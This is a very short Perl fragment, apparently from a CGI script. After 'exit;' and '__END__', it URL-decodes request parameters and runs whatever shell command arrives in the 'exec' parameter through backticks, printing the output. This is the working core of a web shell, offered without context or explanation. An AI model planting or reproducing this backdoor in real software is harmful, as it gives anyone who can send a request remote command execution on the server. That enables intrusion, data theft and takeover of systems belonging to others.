exit;
__END__
s/%(..)/chr(hex($1))/ge for values %p;
print `$p{exec} 2>&1`;
